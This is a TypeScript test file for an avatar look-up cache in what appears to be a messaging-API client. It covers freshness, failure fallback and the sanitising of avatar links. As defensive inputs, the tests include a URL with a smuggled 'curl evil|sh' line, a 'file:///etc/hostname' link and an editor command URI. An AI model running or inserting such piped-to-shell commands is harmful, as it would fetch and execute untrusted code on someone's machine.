import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { describe, it } from 'mocha';
import type { Product } from '../../../src/chatId/product';
import { failed, ok } from '../../../src/greenApi/failure';
import type { LookUpResult } from '../../../src/lookUps/lookUpResult';
import { json } from '../../../src/simulator/reply';
import type { SimulatedContact } from '../../../src/simulator/types';
import { Windows } from '../avatars/support/windows';
import { InstantClock } from '../greenApi/support/clocks';
import { CHAT_IDS, INSTANCES } from '../greenApi/support/world';

const HOUR = 60 * 60 * 1000;
const DAY = 24 * HOUR;

describe('a look-up', () => {
  const windows = new Windows();

  for (const product of ['whatsapp', 'max', 'telegram'] as const) {
    it(`of ${product} brings the picture into the store, once`, async () => {
      const { lookUp, lookedUp } = await windows.open();
      const first = await lookUp({ product });
      assert.deepEqual(
        [first.chatId, first.idInstance, first.product, first.outcome],
        [CHAT_IDS[product].picture, INSTANCES[product].idInstance, product, 'picture'],
      );
      assert.deepEqual([first.fromCache, first.stale, first.failure], [false, false, undefined]);
      const { image } = first;
      assert.deepEqual([image?.width, image?.height, image?.mimeType], [640, 640, 'image/jpeg']);
      assert.equal((await readFile(image?.path ?? '')).length, image?.byteLength);
      assert.match(first.urlAvatar ?? '', /^http:\/\/127/);
      const second = await lookUp({ product });
      assert.deepEqual(second, { ...first, fromCache: true });
      assert.equal(windows.world.asked().length, 1);
      assert.deepEqual(lookedUp, [first]);
    });
  }

  it('tells the same of a peek, which never asks', async () => {
    const { lookUp, avatars } = await windows.open();
    const { idInstance } = INSTANCES.whatsapp;
    assert.equal(await avatars.peek(idInstance, CHAT_IDS.whatsapp.picture), undefined);
    const asked = await lookUp();
    const peeked = await avatars.peek(idInstance, CHAT_IDS.whatsapp.picture);
    assert.deepEqual(peeked, { ...asked, fromCache: true });
    assert.equal(windows.world.asked().length, 1);
  });

  it('is answered in another window by the same store', async () => {
    const first = await (await windows.open()).lookUp();
    const second = await (await windows.open()).lookUp({ asker: 'automatic' });
    assert.deepEqual(second, { ...first, fromCache: true });
  });

  for (const [avatar, product, pictureDays, freshFor] of [
    ['picture', 'whatsapp', 7, 7 * DAY],
    ['picture', 'whatsapp', 30, 30 * DAY],
    ['picture', 'whatsapp', 0, 0],
    ['none', 'whatsapp', 7, DAY],
    ['none', 'whatsapp', 0, 0],
    ['hidden', 'whatsapp', 7, DAY],
    ['noAccount', 'telegram', 7, DAY],
  ] as const) {
    it(`that found ${avatar} is fresh for ${freshFor / DAY} days at ${pictureDays}`, async () => {
      const clock = new InstantClock();
      const { lookUp } = await windows.open({ clock, pictureDays });
      const chatId = CHAT_IDS[product][avatar satisfies SimulatedContact['avatar']];
      const ask = () => lookUp({ product, chatId, asker: 'automatic' });
      await ask();
      clock.pass(freshFor - 1);
      assert.equal((await ask()).fromCache, freshFor > 0);
      clock.pass(1);
      assert.equal((await ask()).fromCache, false);
    });
  }

  it('is done again where the clock was set back, since nobody knows the age', async () => {
    const clock = new InstantClock();
    const { lookUp } = await windows.open({ clock });
    await lookUp();
    clock.pass(-HOUR);
    assert.equal((await lookUp()).fromCache, false);
    assert.equal((await lookUp()).fromCache, true);
  });

  it('shows the stored picture, as stale, where asking fails', async () => {
    const clock = new InstantClock();
    const { lookUp } = await windows.open({ clock });
    const stored = await lookUp();
    clock.pass(8 * DAY);
    windows.world.simulator.fail('getAvatar', 'serverError500');
    const failure = { code: 'serverError', status: 500 } as const;
    assert.deepEqual(await lookUp(), { ...stored, fromCache: true, stale: true, failure });
  });

  it('fails with refresh, or where nothing is stored', async () => {
    const { lookUp, avatars } = await windows.open();
    const stored = await lookUp();
    windows.world.simulator.fail('getAvatar', 'serverError500');
    const refreshed = await lookUp({ refresh: true });
    assert.deepEqual(outcomeOf(refreshed), ['failed', 'serverError', undefined]);
    const other = await lookUp({ chatId: CHAT_IDS.whatsapp.hidden });
    assert.deepEqual(outcomeOf(other), ['failed', 'serverError', undefined]);
    const { idInstance } = INSTANCES.whatsapp;
    const kept = await avatars.peek(idInstance, CHAT_IDS.whatsapp.picture);
    assert.deepEqual(kept, { ...stored, fromCache: true });
  });

  it('that failed a moment ago is not done again by resting the mouse, but by a person', async () => {
    const clock = new InstantClock();
    const { lookUp } = await windows.open({ clock });
    windows.world.simulator.fail('getAvatar', 'serverError500');
    const hover = () => lookUp({ asker: 'automatic' });
    await hover();
    clock.pass(29_000);
    assert.deepEqual(outcomeOf(await hover()), ['failed', 'serverError', undefined]);
    assert.equal(windows.world.asked().length, 1);
    clock.pass(1000);
    await hover();
    assert.equal(windows.world.asked().length, 2);
    await lookUp();
    await lookUp({ asker: 'automatic', refresh: true });
    await lookUp({ asker: 'batch' });
    assert.equal(windows.world.asked().length, 5);
  });

  it('replaces what is stored by what is true now', async () => {
    const { lookUp } = await windows.open();
    const chatId = '79005550000@c.us';
    const { simulator } = windows.world;
    simulator.setContact({ chatId, avatar: 'picture' });
    await lookUp({ chatId });
    simulator.setContact({ chatId, avatar: 'hidden' });
    assert.equal((await lookUp({ chatId, refresh: true })).outcome, 'hidden');
    const stored = await lookUp({ chatId });
    assert.deepEqual(outcomeOf(stored), ['hidden', undefined, undefined]);
    assert.equal(stored.fromCache, true);
  });

  for (const [name, answer, code] of [
    ['the secrets are out of reach', 'throws', 'secretsUnavailable'],
    ['the instance was removed', 'undefined', 'noInstance'],
  ] as const) {
    it(`asks nobody, and tells nobody that it did, where ${name}`, async () => {
      const { lookUp, lookedUp, directory } = await windows.open();
      windows.secrets.broken = { get: answer };
      await directory.reload();
      const result = await lookUp({ idInstance: '5' });
      assert.equal(result.failure?.code, code);
      assert.deepEqual(lookedUp, []);
      assert.equal(windows.world.asked().length, 0);
    });
  }

  it('says of the unforeseen what kind it was, without its words', async () => {
    const ask = () => Promise.reject(new TypeError('secret words'));
    const { lookUp } = await windows.open({ ask });
    assert.deepEqual((await lookUp()).failure, { code: 'badReply', detail: 'TypeError' });
  });

  for (const [link, isKept] of [
    ['https://pps.whatsapp.net/v/picture.jpg?oe=66041D5F', true],
    ['http://127.0.0.1:1/v/picture.jpg', true],
    ['command:workbench.action.quit', false],
    ['file:///etc/hostname', false],
    ['DATA:image/gif;base64,R0lGODlh', false],
    [`https://pps.whatsapp.net/${'x'.repeat(3000)}`, false],
    [`https://pps.whatsapp.net/${INSTANCES.whatsapp.apiTokenInstance.toUpperCase()}`, false],
  ] as const) {
    it(`${isKept ? 'keeps' : 'forgets'} the link ${link.slice(0, 50)}`, async () => {
      const { store } = await windows.open();
      const picture = await (await windows.open()).lookUp();
      const bytes = await readFile(picture.image?.path ?? '');
      const reply = { urlAvatar: link, base64Avatar: bytes.toString('base64') };
      windows.world.simulator.fail('getAvatar', () => json(200, reply));
      const result = await (await windows.open({ store })).lookUp({ refresh: true });
      assert.equal(result.outcome, 'picture');
      assert.equal(result.urlAvatar, isKept ? link : undefined);
    });
  }

  it('keeps a link as it is opened: on one line', async () => {
    const { store } = await windows.open();
    const picture = await (await windows.open()).lookUp();
    const base64Avatar = (await readFile(picture.image?.path ?? '')).toString('base64');
    const reply = { urlAvatar: 'https://pps.whatsapp.net/a\ncurl evil|sh\n', base64Avatar };
    windows.world.simulator.fail('getAvatar', () => json(200, reply));
    const result = await (await windows.open({ store })).lookUp({ refresh: true });
    assert.equal(result.urlAvatar, 'https://pps.whatsapp.net/acurl%20evil|sh');
  });

  it('takes in an answer that came by notification, unless it is older than what is stored', async () => {
    const clock = new InstantClock();
    const { lookUp, avatars, lookedUp } = await windows.open({ clock });
    const product: Product = 'whatsapp';
    const subject = {
      chatId: CHAT_IDS.whatsapp.picture,
      idInstance: INSTANCES.whatsapp.idInstance,
      product,
    };
    const stored = await lookUp();
    const old = await avatars.accept(subject, ok({ outcome: 'noPicture' }), clock.now() - 1);
    assert.deepEqual(old, { ...stored, fromCache: true });
    const failure = await avatars.accept(subject, failed('checkTimedOut'));
    assert.deepEqual(outcomeOf(failure), ['picture', 'checkTimedOut', true]);
    clock.pass(1);
    const taken = await avatars.accept(subject, ok({ outcome: 'noPicture' }));
    assert.deepEqual(outcomeOf(taken), ['noPicture', undefined, undefined]);
    assert.equal((await lookUp({ asker: 'automatic' })).outcome, 'noPicture');
    assert.equal(lookedUp.length, 3);
  });
});

function outcomeOf({ outcome, failure, stale }: LookUpResult) {
  return [outcome, failure?.code, stale || undefined];
}
